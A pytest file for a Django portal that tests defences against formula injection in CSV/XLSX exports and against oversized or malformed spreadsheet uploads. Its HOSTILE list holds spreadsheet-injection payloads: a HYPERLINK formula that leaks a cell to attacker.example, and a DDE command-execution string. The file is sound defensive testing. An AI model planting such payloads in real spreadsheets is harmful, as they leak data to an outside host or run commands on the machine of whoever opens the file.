"""Exports and imports against hostile cells (issue 15.4, 15.5): formula injection is neutralised in
every CSV/XLSX export and stripped again on import (a lossless round trip); an upload is read
within fixed bounds (parts' unpacked sizes, rows with empty ones counted, columns, cell length), and
unstorable text (NUL, lone surrogates) is a row error, never a 500."""

import csv
import io
import zipfile

import pytest
from django.core.exceptions import ValidationError
from django.urls import reverse
from openpyxl import Workbook, load_workbook

from initiatives.models import Initiative
from leadership.imports.exports import export_rows
from leadership.imports.importer import MSG_UNSTORABLE, run_import
from leadership.imports.tables import (
    MAX_CELL_CHARS,
    MAX_COLUMNS,
    MAX_ROWS,
    MAX_SHARED_STRINGS_BYTES,
    csv_bytes,
    read_table,
    xlsx_bytes,
)
from tests.conftest import page_client
from tests.factories.portfolio import InitiativeFactory, KPIFactory, KPIMeasurementFactory
from vpportal.core.cell_guard import guard, unguard

pytestmark = pytest.mark.django_db

HOSTILE = [
    '=HYPERLINK("http://attacker.example/?"&A1,"Open")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)",
    "\tTabbed",
    "\rReturned",
    "'Quoted already",
    "''=two apostrophes",
]


# --- the guard itself -------------------------------------------------------------------------------


@pytest.mark.parametrize("text", HOSTILE)
def test_text_a_spreadsheet_would_run_gets_a_leading_apostrophe_and_comes_back_unchanged(text):
    guarded = guard(text)
    assert guarded == "'" + text
    assert unguard(guarded) == text


@pytest.mark.parametrize("value", ["-5", "+3.25", "-1e-3", "42", "Plain title", "", -5, 2.5, None])
def test_numbers_and_plain_text_are_left_alone(value):
    assert guard(value) == value
    if isinstance(value, str):
        assert unguard(value) == value


def test_an_apostrophe_someone_typed_in_a_hand_made_file_is_kept():
    assert unguard("'tis the season") == "'tis the season"


# --- list exports -----------------------------------------------------------------------------------


def test_the_list_csv_neutralises_formulas(executive):
    InitiativeFactory(title=HOSTILE[0])
    response = page_client(executive).get(reverse("initiatives:initiative_list"), {"export": "csv"})
    body = b"".join(response.streaming_content).decode()
    cells = [cell for row in csv.reader(io.StringIO(body)) for cell in row]
    assert "'" + HOSTILE[0] in cells
    assert HOSTILE[0] not in cells


def _sheet_xml(content: bytes) -> str:
    with zipfile.ZipFile(io.BytesIO(content)) as archive:
        return "".join(
            archive.read(n).decode()
            for n in archive.namelist()
            if n.startswith("xl/worksheets/") and n.endswith(".xml")
        )


def test_the_list_xlsx_types_cells_as_text_never_formulas(executive):
    InitiativeFactory(title=HOSTILE[0])
    response = page_client(executive).get(reverse("initiatives:initiative_list"), {"export": "xlsx"})
    assert "<f>" not in _sheet_xml(response.content)
    sheet = load_workbook(io.BytesIO(response.content)).worksheets[0]
    cells = [cell for row in sheet.iter_rows() for cell in row if cell.value == "'" + HOSTILE[0]]
    assert cells and all(cell.data_type == "s" for cell in cells)


# --- import-format exports: a lossless round trip ---------------------------------------------------


@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
def test_hostile_titles_and_negative_numbers_survive_an_export_and_re_import(executive, fmt):
    # Forms and the API strip leading whitespace, so stored titles start with the other triggers
    # (XML also turns a CR into a LF; the guard's own round trip of tab and CR is tested above).
    hostile = [text for text in HOSTILE if text[0] not in "\t\r"]
    for text in hostile:
        InitiativeFactory(title=text)
    kpi = KPIFactory(unit="EUR", baseline=-5, target=-1, warning_threshold=-3, direction="higher_is_better")
    KPIMeasurementFactory(kpi=kpi, value=-5.0)
    columns, rows = export_rows("initiatives")
    content = xlsx_bytes(columns, rows) if fmt == "xlsx" else csv_bytes(columns, rows)
    if fmt == "xlsx":
        assert "<f>" not in _sheet_xml(content)
    else:
        text = content.decode()
        assert "\"'=HYPERLINK(" in text and "\n=" not in text
    titles = {row["title"] for row in read_table(content, f"initiatives.{fmt}")}
    assert titles == set(Initiative.objects.values_list("title", flat=True)) and set(hostile) <= titles
    report = run_import("initiatives", read_table(content, f"initiatives.{fmt}"), by=executive, preview=True)
    assert report.ok and report.count("unchanged") == Initiative.objects.count(), [
        (r.line, r.errors) for r in report.errors
    ]

    columns, rows = export_rows("kpi-measurements")
    content = xlsx_bytes(columns, rows) if fmt == "xlsx" else csv_bytes(columns, rows)
    if fmt == "xlsx":
        values = [row[columns.index("value")] for row in load_workbook(io.BytesIO(content)).worksheets[0].values]
        assert values[1] == -5  # a number cell, not the text "'-5"
    else:
        assert ",-5.0," in content.decode()
    assert read_table(content, f"m.{fmt}")[0]["value"] in ("-5", "-5.0")


# --- imports within bounds ----------------------------------------------------------------------------


def _import_preview(user, content: bytes, filename: str, kind="initiatives"):
    upload = io.BytesIO(content)
    upload.name = filename
    return page_client(user).post(reverse("import_data"), {"kind": kind, "file": upload})


def test_a_nul_byte_in_a_csv_cell_is_a_row_error_not_a_server_error(executive):
    content = b"title,owner_email\nBad\x00title,executive-user@example.com\n"
    response = _import_preview(executive, content, "initiatives.csv")
    assert response.status_code == 200
    report = response.context["report"]
    assert not report.ok and report.errors[0].errors == {"title": [MSG_UNSTORABLE]}
    assert not Initiative.objects.exists()


def _workbook(rows=(("title", "owner_email"), ("A", "a@example.com"))) -> bytes:
    book = Workbook()
    for row in rows:
        book.active.append(row)
    out = io.BytesIO()
    book.save(out)
    return out.getvalue()


def _replace_parts(content: bytes, parts: dict[str, bytes | str]) -> bytes:
    """The workbook with some parts' bytes replaced (what a crafted file would carry)."""
    out = io.BytesIO()
    with zipfile.ZipFile(io.BytesIO(content)) as source, zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as target:
        names = source.namelist()
        for name in names:
            target.writestr(name, parts.get(name, source.read(name)))
        for name, data in parts.items():
            if name not in names:
                target.writestr(name, data)
    return out.getvalue()


SHEET = "xl/worksheets/sheet1.xml"
NS = 'xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"'


def _sheet(rows_xml: str, dimension="A1:B2") -> str:
    return f'<?xml version="1.0"?><worksheet {NS}><dimension ref="{dimension}"/><sheetData>{rows_xml}</sheetData></worksheet>'


HEADER = (
    '<row r="1"><c r="A1" t="inlineStr"><is><t>title</t></is></c><c r="B1" t="inlineStr"><is><t>x</t></is></c></row>'
)


def test_a_lone_surrogate_in_any_cell_is_a_row_error(executive):
    # No reader hands one over today (UTF-8 decoding and XML parsing refuse them), but the importer
    # checks every cell whatever read it, as the bulk API does for JSON's "\\ud800".
    rows = [{"title": "bad \ud800 text", "owner_email": "executive-user@example.com"}]
    report = run_import("initiatives", rows, by=executive, preview=True)
    assert report.errors[0].errors["title"] == [MSG_UNSTORABLE]


def test_a_sheet_naming_row_five_million_is_refused_before_it_is_read():
    content = _replace_parts(_workbook(), {SHEET: _sheet(HEADER + '<row r="5000000"/>', "A1:B5000000")})
    with pytest.raises(ValidationError, match="empty rows count"):
        read_table(content, "bomb.xlsx")


def test_empty_rows_count_towards_the_row_limit():
    rows = "".join(f'<row r="{n}"/>' for n in range(2, MAX_ROWS + 3))
    with pytest.raises(ValidationError, match="empty rows count"):
        read_table(_replace_parts(_workbook(), {SHEET: _sheet(HEADER + rows)}), "empty.xlsx")
    with pytest.raises(ValidationError, match="empty rows count"):
        read_table(b"title\n" + b",\n" * (MAX_ROWS + 1), "empty.csv")


def test_a_declared_dimension_does_not_make_rows_appear():
    content = _replace_parts(_workbook(), {SHEET: _sheet(HEADER, "A1:XFD1048576")})
    assert read_table(content, "tall.xlsx") == []


def test_a_row_wider_than_the_column_limit_is_refused():
    cells = "".join(f"<c><v>{n}</v></c>" for n in range(MAX_COLUMNS + 1))
    with pytest.raises(ValidationError, match="columns"):
        read_table(_replace_parts(_workbook(), {SHEET: _sheet(HEADER + f"<row>{cells}</row>")}), "wide.xlsx")
    with pytest.raises(ValidationError, match="columns"):
        read_table(("title" + ",x" * MAX_COLUMNS + "\n").encode(), "wide.csv")


def test_a_cell_longer_than_a_spreadsheet_cell_is_refused():
    long = "x" * (MAX_CELL_CHARS + 1)
    row = f'<row r="2"><c r="A2" t="inlineStr"><is><t>{long}</t></is></c></row>'
    with pytest.raises(ValidationError, match="longer than"):
        read_table(_replace_parts(_workbook(), {SHEET: _sheet(HEADER + row)}), "long.xlsx")
    with pytest.raises(ValidationError, match="longer than"):
        read_table(f"title\n{long}\n".encode(), "long.csv")


def test_shared_strings_that_would_unpack_past_the_cap_are_refused_unread():
    # Declared sizes are checked from the zip's directory: nothing is inflated or parsed.
    strings = "<sst>" + " " * MAX_SHARED_STRINGS_BYTES + "</sst>"
    content = _replace_parts(_workbook(), {"xl/sharedStrings.xml": strings})
    assert len(content) < 100_000
    with pytest.raises(ValidationError, match="shared strings"):
        read_table(content, "strings.xlsx")


def test_a_file_that_is_no_zip_is_a_field_error():
    with pytest.raises(ValidationError, match="could not be read"):
        read_table(b"not a zip", "broken.xlsx")
